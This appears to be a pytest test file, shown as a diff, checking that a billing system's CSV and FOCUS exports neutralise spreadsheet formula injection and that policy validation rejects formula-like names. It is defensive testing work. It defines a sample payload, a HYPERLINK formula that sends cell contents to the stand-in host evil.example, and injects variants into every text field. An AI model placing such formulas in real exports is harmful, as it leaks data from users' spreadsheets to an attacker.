@@ -1,0 +1,94 @@
+"""CSV and FOCUS exports never start a cell with a spreadsheet formula, in any column; normal bytes are unchanged."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from datetime import UTC, datetime, timedelta
+
+import pytest
+from sqlmodel import select
+
+from app.billing import exports, periods
+from app.billing.models import ChargeLineRecord
+from app.core.errors import Invalid
+from app.policy.document import PolicyDocument
+from app.policy.parsing import parse_document
+from app.policy.service import dump_yaml
+from tests.billing.builders import add_hour, policy_doc, store_policy
+
+OCT1 = datetime(2026, 10, 1, tzinfo=UTC)
+NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
+EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+TEXT_FIELDS = ["line_id", "account", "department", "pool", "kind", "klass", "service", "unit", "corrects", "reason"]
+
+
+@pytest.fixture
+def october(session):
+    v = store_policy(session)
+    add_hour(session, hour=OCT1, version=v.id)
+    add_hour(session, hour=OCT1 + timedelta(hours=1), version=v.id, breaches=())
+    return periods.rate(session=session, period="2026-10", actor="fin")
+
+
+def _cells(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8"))))[1:]
+
+
+def _assert_inert(data: bytes, columns: list[str]) -> None:
+    rows = _cells(data)
+    assert rows
+    for row in rows:
+        for column, cell in zip(columns, row, strict=True):
+            assert not cell.startswith(exports._FORMULA_START) or NUMBER.fullmatch(cell), (column, cell)
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_text_column_is_neutralised(session, october, lead):
+    lines = session.exec(select(ChargeLineRecord).where(ChargeLineRecord.period_id == october.id)).all()
+    for n, line in enumerate(lines):
+        for field in TEXT_FIELDS:
+            setattr(line, field, f"{lead}{EVIL[1:]}|{field}|{n}")  # unique line ids stay unique
+    session.flush()
+    session.expire_all()
+    csv_bytes = exports.render(session=session, period=october, fmt="csv")
+    focus_bytes = exports.render(session=session, period=october, fmt="focus")
+    _assert_inert(csv_bytes, exports.CSV_COLUMNS)
+    _assert_inert(focus_bytes, exports.FOCUS_COLUMNS)
+    # Every text column was reached: each carries the marked value, prefixed, not dropped.
+    header = exports.CSV_COLUMNS
+    first = dict(zip(header, _cells(csv_bytes)[0], strict=True))
+    for column in ("line_id", "account", "department", "pool", "kind", "class", "service", "unit", "corrects", "reason"):
+        assert first[column].startswith("'" + lead), column
+    focus = dict(zip(exports.FOCUS_COLUMNS, _cells(focus_bytes)[0], strict=True))
+    for column in ("BillingAccountId", "BillingAccountName", "ChargeDescription", "InvoiceId", "PricingUnit",
+                   "ResourceId", "ResourceName", "SubAccountId", "SubAccountName", "x_LineId", "x_Corrects"):
+        assert focus[column][:1] not in exports._FORMULA_START, column
+
+
+def test_numbers_stay_numeric_and_normal_exports_are_unchanged(session, october, monkeypatch):
+    rendered = {fmt: exports.render(session=session, period=october, fmt=fmt) for fmt in ("csv", "focus")}
+    amounts = [row[exports.CSV_COLUMNS.index("amount")] for row in _cells(rendered["csv"])]
+    assert any(a.startswith("-") for a in amounts) and all(NUMBER.fullmatch(a) for a in amounts)
+    monkeypatch.setattr(exports, "neutralise", lambda value: value)
+    assert {fmt: exports.render(session=session, period=october, fmt=fmt) for fmt in ("csv", "focus")} == rendered
+
+
+def test_neutralise():
+    assert exports.neutralise("=1+1") == "'=1+1"
+    assert exports.neutralise("-12.50") == "-12.50"
+    assert exports.neutralise("-1+2") == "'-1+2"
+    assert exports.neutralise("@SUM(A1)") == "'@SUM(A1)"
+    assert exports.neutralise("research") == "research"
+
+
+def test_policy_validation_refuses_formula_names():
+    base = policy_doc().to_data()
+    base["tenants"][0]["department"] = EVIL
+    base["pools"][0]["name"] = "+cmd"
+    base["sla"][0]["service"] = "@evil"
+    with pytest.raises(Invalid) as info:
+        parse_document(dump_yaml(PolicyDocument.model_validate(base)))
+    paths = {e.path for e in info.value.errors if "formula" in e.message}
+    assert paths == {"tenants[0].department", "pools[0].name", "sla[0].service"}
